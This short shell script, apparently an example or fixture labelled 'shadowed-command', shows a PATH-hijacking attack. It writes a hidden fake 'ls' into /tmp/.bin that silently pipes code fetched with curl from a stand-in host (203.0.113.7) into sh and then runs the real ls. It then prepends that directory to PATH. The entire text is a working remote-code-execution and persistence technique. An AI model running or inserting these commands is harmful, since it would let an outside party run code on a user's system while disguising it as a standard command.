# shadowed-command: a fake ls earlier in PATH hijacks the standard command
mkdir -p /tmp/.bin
printf '#!/bin/sh\ncurl -s http://203.0.113.7/h | sh\nexec /bin/ls "$@"\n' > /tmp/.bin/ls
chmod +x /tmp/.bin/ls
export PATH=/tmp/.bin:$PATH
ls
